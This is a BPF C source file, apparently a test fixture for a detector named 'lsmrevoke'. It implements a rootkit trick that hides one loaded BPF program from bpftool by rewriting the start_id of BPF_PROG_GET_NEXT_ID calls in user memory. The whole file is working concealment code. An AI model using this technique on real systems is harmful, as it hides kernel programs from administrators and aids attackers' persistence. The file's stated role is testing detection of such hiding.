// SPDX-License-Identifier: GPL-2.0
/*
 * The rootkit trick "lsmrevoke hidden" must see through: hide one program
 * from BPF_PROG_GET_NEXT_ID (and so from bpftool) while it stays in the
 * kernel's prog_idr.
 *
 * On entry to bpf(BPF_PROG_GET_NEXT_ID, attr), before the kernel copies
 * attr, a start_id in [floor_id, hide_id) is rewritten in the caller's
 * memory to hide_id, so the kernel answers with the program after
 * hide_id. floor_id is the highest live ID below hide_id when the test
 * set it ("lsmrevoke-test cli hide"), so nothing else is skipped. The
 * configuration and a count of rewrites live in the cfg map; hide_id 0
 * hides nothing.
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>

struct sys_enter_ctx {
	__u64 common;
	__s32 nr;
	__u32 pad;
	__u64 args[6];
};

struct cli_hide_cfg {
	__u32 hide_id;
	__u32 floor_id;
	__u64 rewrites;
};

struct {
	__uint(type, BPF_MAP_TYPE_ARRAY);
	__uint(max_entries, 1);
	__type(key, __u32);
	__type(value, struct cli_hide_cfg);
} cfg SEC(".maps");

SEC("tracepoint/syscalls/sys_enter_bpf")
int cli_hide(struct sys_enter_ctx *ctx)
{
	union bpf_attr *uattr = (void *)ctx->args[1];
	struct cli_hide_cfg *c;
	__u32 zero = 0, start, to;

	if (ctx->args[0] != BPF_PROG_GET_NEXT_ID)
		return 0;
	c = bpf_map_lookup_elem(&cfg, &zero);
	if (!c || !c->hide_id)
		return 0;
	if (bpf_probe_read_user(&start, sizeof(start), &uattr->start_id))
		return 0;
	if (start < c->floor_id || start >= c->hide_id)
		return 0;
	to = c->hide_id;
	if (!bpf_probe_write_user(&uattr->start_id, &to, sizeof(to)))
		__sync_fetch_and_add(&c->rewrites, 1);
	return 0;
}

char LICENSE[] SEC("license") = "GPL";
